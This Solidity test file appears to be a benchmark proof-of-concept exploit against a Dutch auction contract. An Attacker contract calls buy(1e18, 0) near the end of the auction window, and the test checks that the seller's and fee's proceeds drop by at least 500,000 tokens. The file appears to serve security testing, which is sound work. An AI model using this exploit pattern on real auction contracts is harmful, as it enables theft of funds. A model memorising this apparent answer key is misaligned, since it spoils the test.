// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// assay-canary-930fad3b-ea4e-4faa-b638-33944248d408
import "../Base.sol";

contract Attacker {
    function run(DutchAuction auction) external {
        try auction.buy(1e18, 0) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    /// Coins that the creator and the fee get.
    function proceeds() public view returns (uint256) {
        return auction.sold() * auction.clearingPrice() / 1e18;
    }

    function exploit() public {
        vm.warp(START + 9 days - 1);
        other.run(auction);
    }

    function test_Exploit() public {
        uint256 before = proceeds();
        exploit();
        require(proceeds() + 500_000e18 <= before, "no loss");
    }

    function target() public view override returns (address) {
        return address(auction);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
